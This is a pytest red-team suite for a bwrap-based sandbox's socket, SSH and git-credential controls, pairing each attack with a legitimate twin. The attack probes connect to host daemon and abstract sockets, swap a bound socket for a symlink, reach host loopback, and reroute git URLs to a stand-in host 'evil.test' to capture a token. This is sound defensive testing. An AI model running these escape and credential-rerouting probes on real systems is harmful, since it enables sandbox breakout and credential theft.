"""Red-team of `--allow-socket` (issue 18): once a box may create AF_UNIX sockets, every host socket
it can *see* is one it can connect to. /tmp, /run, /dev/shm and $HOME are private, but the host's
root is bound read-only, and a read-only mount does not stop connect(). Each attack beside its twin:

- a listening socket in /var/lib, /srv or /home (where host daemons keep theirs: podman's attach
  sockets under /var/lib/containers, postfix under /var/spool, lxd under /var/snap) stays out of
  reach with the opt-in on, and the granted agent still answers;
- an abstract socket of a host process is out of reach (the box has its own network namespace);
- a PATH socket swapped for a link (or its directory for a link) after the planner checked it and
  before bwrap binds it is refused: bwrap gets an O_PATH fd opened without following links
  (`--ro-bind-fd`), checked again, never the path.
"""

from __future__ import annotations

import glob
import json
import os
import shutil
import socket
import uuid
from pathlib import Path

import pytest

from relay.host.fs_view import HostFs
from relay.model.errors import RefusedError
from relay.modes.bwrap_runner import open_sockets
from relay.policy.sockets import resolve_sockets

from ..conftest import Sandbox, require_tool
from .conftest import Report
from .test_sockets import CONNECT_PROBE, Agent, _listening, run

# As CONNECT_PROBE, but from the socket's own dir: podman's attach paths are longer than sun_path.
NEAR_PROBE = """
import os, socket, sys
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    try:
        os.chdir(os.path.dirname(path)); s.connect(os.path.basename(path)); print(path, "CONNECTED")
    except OSError as err:
        print(path, "connect", err.errno)
"""


def test_host_daemon_sockets_outside_run_and_tmp_stay_unreachable(box: Sandbox, report: Report) -> None:
    require_tool("ssh-agent")
    agent = Agent(box.root)
    tag = uuid.uuid4().hex[:8]
    places: list[Path] = []
    if os.getuid() == 0:  # only root can make these here; the plan check below holds for every caller
        places = [Path(f"/var/lib/hive-relay-test-{tag}/d.sock"), Path(f"/srv/hive-relay-test-{tag}/d.sock"),
                  Path(f"/home/hive-relay-test-{tag}/d.sock"), Path(f"/var/spool/hive-relay-test-{tag}/d.sock")]
    servers = [_listening(p) for p in places]
    # Real ones when this host has them: podman's per-container attach sockets (a console into it).
    real = sorted(glob.glob("/var/lib/containers/storage/overlay-containers/*/userdata/attach"))[:3]
    try:
        targets = " ".join(map(str, [*places, *real]))
        proc = run(box, f"python3 -c '{NEAR_PROBE}' {targets} /run/hive-relay/sockets/ssh-agent",
                   "--allow-socket", "ssh-agent", sock=agent.sock)
    finally:
        agent.stop()
        for srv, p in zip(servers, places, strict=True):
            srv.close()
            shutil.rmtree(p.parent, ignore_errors=True)
    reached = [t for t in [*map(str, places), *real] if f"{t} CONNECTED" in proc.stdout]
    report.attack(not reached)
    assert not reached, proc.stdout
    assert all(f"{p} connect 2" in proc.stdout for p in places), proc.stdout + proc.stderr  # not there at all
    report.legit("/run/hive-relay/sockets/ssh-agent CONNECTED" in proc.stdout)
    assert "/run/hive-relay/sockets/ssh-agent CONNECTED" in proc.stdout, proc.stdout + proc.stderr


def test_the_plan_hides_the_socket_homes_only_with_the_opt_in(box: Sandbox) -> None:
    require_tool("ssh-agent")
    agent = Agent(box.root)
    try:
        on = json.loads(box.relay("shell", "--dry-run", "--json", "--allow-socket", "ssh-agent",
                                  extra_env={"SSH_AUTH_SOCK": str(agent.sock)}).stdout)
    finally:
        agent.stop()
    off = json.loads(box.relay("shell", "--dry-run", "--json").stdout)
    hidden = {m["dst"] for m in on["mounts"] if m["kind"] == "tmpfs"}
    expected = {d for d in ("/home", "/srv", "/mnt", "/media", "/var/lib", "/var/spool") if os.path.isdir(d)
                and not os.path.islink(d)}
    assert expected <= hidden, hidden
    assert "/var/cache" not in hidden  # the agent CLIs live there
    assert not expected & {m["dst"] for m in off["mounts"] if m["kind"] == "tmpfs"}
    # The workdir is still bound (after the tmpfs), so a workdir under /home or /srv keeps working.
    order = [m["dst"] for m in on["mounts"]]
    assert all(order.index(h) < order.index(str(box.workdir)) for h in expected)


ABSTRACT_PROBE = """
import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(b"\\0" + sys.argv[1].encode()); print("abstract CONNECTED")
except OSError as err:
    print("abstract connect", err.errno)
"""


def test_a_host_abstract_socket_stays_unreachable(box: Sandbox, report: Report) -> None:
    require_tool("ssh-agent")
    agent = Agent(box.root)
    name = f"hive-relay-test-{uuid.uuid4().hex[:8]}"
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(b"\0" + name.encode())
    srv.listen(4)
    try:
        probe = socket.socket(socket.AF_UNIX)
        probe.connect(b"\0" + name.encode())  # live on the host
        probe.close()
        proc = run(box, f"python3 -c '{ABSTRACT_PROBE}' {name}; python3 -c '{CONNECT_PROBE}' "
                        "/run/hive-relay/sockets/ssh-agent", "--allow-socket", "ssh-agent", sock=agent.sock)
    finally:
        agent.stop()
        srv.close()
    report.attack("abstract connect 111" in proc.stdout)
    assert "abstract connect 111" in proc.stdout, proc.stdout + proc.stderr  # ECONNREFUSED: not in this netns
    report.legit("/run/hive-relay/sockets/ssh-agent CONNECTED" in proc.stdout)
    assert "/run/hive-relay/sockets/ssh-agent CONNECTED" in proc.stdout


def test_the_box_cannot_swap_its_bound_socket_and_its_tools_still_run(box: Sandbox, report: Report) -> None:
    """The bound socket is a mount point in box-private /run: rm and mv fail (EBUSY), so the box
    cannot put its own listener where its tools look for the agent. The twin: with the socket homes
    hidden, the usual tools still run (node, git, python's ssl, curl) and the agent still answers."""
    require_tool("ssh-agent")
    agent = Agent(box.root)
    sock = "/run/hive-relay/sockets/ssh-agent"
    script = (f"rm -f {sock}; echo rm=$?; mv {sock} /run/x; echo mv=$?; ln -sf /tmp/y {sock}; echo ln=$?; "
              "ssh-add -l; node --version >/dev/null && echo node-ok; git --version >/dev/null && echo git-ok; "
              "python3 -c 'import ssl; ssl.create_default_context()' && echo ssl-ok; curl --version >/dev/null && "
              "echo curl-ok")
    try:
        proc = run(box, script, "--allow-socket", "ssh-agent", sock=agent.sock)
    finally:
        agent.stop()
    out = proc.stdout.split()
    report.attack(all(f"{op}=1" in out for op in ("rm", "mv", "ln")))
    assert all(f"{op}=1" in out for op in ("rm", "mv", "ln")), proc.stdout + proc.stderr
    report.legit(agent.fingerprint in proc.stdout)
    assert agent.fingerprint in proc.stdout, proc.stdout + proc.stderr
    for tool in ("git", "ssl", "curl") + (("node",) if shutil.which("node") else ()):
        assert f"{tool}-ok" in out, (tool, proc.stdout + proc.stderr)


class _Planned:
    """What open_sockets reads of a plan: its sockets."""

    def __init__(self, sockets: tuple) -> None:
        self.sockets = sockets


def test_a_socket_swapped_after_the_check_is_not_bound(tmp_path: Path, report: Report) -> None:
    mine = _listening(tmp_path / "proj" / "dev.sock")  # in a dir another box could write (its workdir)
    dock = _listening(tmp_path / "daemon" / "docker.sock")
    elsewhere = _listening(tmp_path / "other" / "dev.sock")
    path = tmp_path / "proj" / "dev.sock"
    try:
        socks = resolve_sockets([str(path)], {}, str(tmp_path), os.getuid(), HostFs())  # the planner's check
        plan = _Planned(socks)
        # Twin: unchanged, the fd is that very socket, at bwrap's fd number.
        fds = open_sockets(plan)  # type: ignore[arg-type]
        try:
            assert [t for t, _ in fds] == [6] and os.fstat(fds[0][1]).st_ino == path.lstat().st_ino
        finally:
            for _, fd in fds:
                os.close(fd)
        report.legit(True)
        # Attack 1: the socket swapped for a link to the daemon's socket.
        path.rename(tmp_path / "proj" / "moved.sock")
        path.symlink_to(tmp_path / "daemon" / "docker.sock")
        with pytest.raises(RefusedError, match="socket went away|changed since"):
            open_sockets(plan)  # type: ignore[arg-type]
        # Attack 2: the directory swapped for a link to one holding another socket of the same name.
        (tmp_path / "proj").rename(tmp_path / "proj-old")
        (tmp_path / "proj").symlink_to(tmp_path / "other")
        with pytest.raises(RefusedError, match="changed since it was checked"):
            open_sockets(plan)  # type: ignore[arg-type]
        report.attack(True)
    finally:
        for srv in (mine, dock, elsewhere):
            srv.close()


def test_the_box_binds_the_socket_by_fd(box: Sandbox) -> None:
    """The supervised argv carries `--ro-bind-fd 6 /run/hive-relay/sockets/ssh-agent`, never the path."""
    require_tool("ssh-agent")
    agent = Agent(box.root)
    try:
        plan = json.loads(box.relay("shell", "--dry-run", "--json", "--allow-socket", "ssh-agent",
                                    extra_env={"SSH_AUTH_SOCK": str(agent.sock)}).stdout)
    finally:
        agent.stop()
    argv = plan["command"]
    i = argv.index("--ro-bind-fd")
    assert argv[i:i + 3] == ["--ro-bind-fd", "6", "/run/hive-relay/sockets/ssh-agent"]
    assert str(agent.sock) not in argv


def test_allow_ssh_refuses_the_hosts_loopback_like_allow_host(box: Sandbox, report: Report) -> None:
    """`--allow-ssh 127.0.0.1:PORT` carried the box to any service on the host's loopback (ssh goes
    through the proxy, which honoured the IP rule), where `--allow-host 127.0.0.1` is refused. Now
    the same refusal; the twin, a named pin to the same listener, still reaches it."""
    with socket.socket() as srv:
        srv.bind(("127.0.0.1", 0))
        srv.listen(4)
        port = srv.getsockname()[1]
        for spec in (f"127.0.0.1:{port}", "localhost", "::1", "127.1.2.3", "x.localhost"):
            bad = box.relay("shell", "local", "--quiet", "--allow-ssh", spec, "--prompt", "true")
            lines = bad.stderr.strip().splitlines()
            report.attack(bad.returncode == 2)
            assert bad.returncode == 2 and len(lines) == 1 and "loopback" in lines[0] and "fix:" in lines[0], (
                spec, bad.stderr)
        probe = f'sleep 2 | timeout 10 bash -c "$HIVE_RELAY_SSH_CONNECT" x hostsvc.test {port} && echo tunnel-ok'
        import threading

        def greet() -> None:
            conn, _ = srv.accept()
            conn.sendall(b"SSH-2.0-test\r\n")
            conn.close()

        t = threading.Thread(target=greet, daemon=True)
        t.start()
        ok = box.relay("shell", "local", "--quiet", "--allow-ssh", f"hostsvc.test:{port}", "--allow-host",
                       f"hostsvc.test:{port}=127.0.0.1:{port}", "--prompt", probe)
        t.join(5)
    report.legit("SSH-2.0-test" in ok.stdout)
    assert "SSH-2.0-test" in ok.stdout, ok.stdout + ok.stderr


REROUTE = r"""
export GIT_TERMINAL_PROMPT=0 GIT_CONFIG_GLOBAL=/tmp/gitconfig
git config --global url.http://127.0.0.1:3128/github/.insteadOf https://evil.test/
git ls-remote https://evil.test/o/r.git >/dev/null 2>&1; echo "rerouted=$?"
git -c url.https://evil.test/.insteadOf=https://github.com/ ls-remote https://github.com/o/r.git >/dev/null 2>&1; echo "away=$?"
curl -s -o /dev/null -w 'host-header=%{http_code}\n' -H 'Host: evil.test'   'http://127.0.0.1:3128/github/o/r.git/info/refs?service=git-upload-pack'
"""


def test_the_box_cannot_send_a_grant_elsewhere_by_git_config(box: Sandbox, tmp_path: Path, report: Report) -> None:
    """The box owns its git config (and its GIT_CONFIG_* variables): it can point any URL at the grant's
    route, or github.com's at another host. Neither moves the credential: a route has one upstream,
    pinned and TLS-verified by the proxy, which writes the Host header itself; another host gets no key."""
    require_tool("git")
    require_tool("curl")
    from ..git_server import GitServer, bare_repo
    from ..servers import make_ca
    from .test_grants import TOKEN, fake_gh, with_grant

    (tmp_path / "ca").mkdir()
    ca = make_ca(tmp_path / "ca", ("github.com", "evil.test"))
    servers = []
    for name in ("github", "evil"):
        root = tmp_path / name
        root.mkdir()
        bare_repo(root)
        servers.append(GitServer(root, TOKEN, ca[1]).start())
    github, evil = servers
    with_grant(box)
    try:
        proc = box.relay("shell", "local", "--quiet", "--prompt", REROUTE,
                         "--allow-host", f"github.com:443=127.0.0.1:{github.port}",
                         "--allow-host", f"evil.test:443=127.0.0.1:{evil.port}", timeout=180,
                         extra_env={"SSL_CERT_FILE": str(ca[0]), "PATH": fake_gh(tmp_path)})
    finally:
        for srv in servers:
            srv.shutdown()
    out = proc.stdout.splitlines()
    report.legit("rerouted=0" in out)
    assert "rerouted=0" in out, proc.stdout + proc.stderr[-2000:]  # evil.test's URL served by the route: github
    assert github.heads and all("Host: github.com" in h for h in github.heads)
    report.attack(all("Authorization" not in h for h in evil.heads))
    assert all("Authorization" not in h for h in evil.heads), evil.heads  # the box's own request, no key
    assert TOKEN not in proc.stdout + proc.stderr


if __name__ == "__main__":  # pragma: no cover
    pytest.main([__file__])
